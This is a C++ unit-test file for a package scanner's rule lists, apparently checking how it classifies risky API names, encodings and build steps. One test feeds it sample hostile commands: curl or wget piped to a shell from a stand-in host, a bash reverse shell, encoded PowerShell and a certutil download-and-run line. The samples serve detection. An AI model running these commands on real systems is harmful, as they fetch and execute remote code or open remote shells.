// The lists of rules/content: what is read, and that a broken line is an Error.
#include "formats/package_words.hpp"

#include <catch2/catch.hpp>

#include "package_fixture.hpp"

using namespace headgate;
using formats::PackageWords;

TEST_CASE("the lists that the product ships load") {
    const PackageWords* const words = tests::shipped_words();
    REQUIRE(words != nullptr);
    CHECK(words->python().of("os.system") == formats::kProcess);
    CHECK(words->python().of("os.systems") == 0);
    CHECK(words->javascript().of("eval") == formats::kCode);
    CHECK(words->rust().of_beginning("std::net::TcpStream::connect", "::") == formats::kNetwork);
    CHECK(words->rust().of_beginning("std::net2", "::") == 0);
}

TEST_CASE("a command that fetches something and runs it, and one that does either") {
    const PackageWords& words = *tests::shipped_words();
    for (const char* bad : {"curl -fsSL https://code.example/x | sh", "wget   http://code.example/x -O- |bash", "bash -c \"$(curl x)\"", "CURL x > y && CHMOD +x y",
                            "bash -i >& /dev/tcp/127.0.0.1/1 0>&1", "powershell -enc AAAA", "echo x | base64 -d | sh", "certutil -urlcache -f http://code.example/x x.exe & start /b x.exe"}) {
        CAPTURE(bad);
        CHECK(words.fetches_and_runs(bad));
    }
    for (const char* good : {"curl -O https://code.example/x", "node x | sh", "python3 setup.py build", "echo curl-config | sort", "libcurl | sh", "npm run build", ""}) {
        CAPTURE(good);
        CHECK_FALSE(words.fetches_and_runs(good));
    }
}

TEST_CASE("plain steps, programs, encodings") {
    const PackageWords& words = *tests::shipped_words();
    CHECK(words.is_plain_step(" node-gyp   rebuild "));
    CHECK_FALSE(words.is_plain_step("node-gyp rebuild x"));
    CHECK(words.is_program("sudo"));
    CHECK_FALSE(words.is_program("Sudo"));
    for (const char* plain : {"utf-8", "UTF_8", "utf8", "latin-1", "ISO-8859-1", "utf-8-unix", "cp1252"}) CHECK(words.is_plain_encoding(plain));
    for (const char* odd : {"utf-7", "unicode_escape", "raw-unicode-escape", "rot13", "future_fstrings"}) CHECK_FALSE(words.is_plain_encoding(odd));
}

TEST_CASE("names below a folder") {
    tests::ShippedRules rules;
    rules.change("content/python.txt", "network m.*\ncode m.run\n");
    const auto words = PackageWords::load(rules);
    REQUIRE(words.ok());
    CHECK(words->python().of("m.a.b") == formats::kNetwork);
    CHECK(words->python().of("m.run") == (formats::kNetwork | formats::kCode));
    CHECK(words->python().of("m") == 0);
    CHECK(words->python().of("mm.a") == 0);
}

TEST_CASE("a line that is broken is an Error that names it") {
    const std::pair<const char*, const char*> broken[] = {
        {"content/python.txt", "# head\ncode exec twice\n"}, {"content/python.txt", "exec\n"}, {"content/python.txt", "cod exec\n"}, {"content/commands.txt", "fetches curl\n"},
        {"content/commands.txt", "fetch\n"}, {"content/programs.txt", "sh bash\n"}, {"content/encodings.txt", "utf 8\n"}, {"content/rust.txt", "network \xff\n"}};
    for (const auto& [path, text] : broken) {
        CAPTURE(path, text);
        tests::ShippedRules rules;
        rules.change(path, text);
        const auto words = PackageWords::load(rules);
        REQUIRE_FALSE(words.ok());
        CHECK(words.error().code == ErrorCode::policy);
        CHECK(words.error().message.find(std::string("rules/") + path + ":") == 0);
    }
    class Nothing final : public RuleData {
        std::optional<ByteView> file(std::string_view) const override { return std::nullopt; }
    };
    CHECK_FALSE(PackageWords::load(Nothing{}).ok());
}
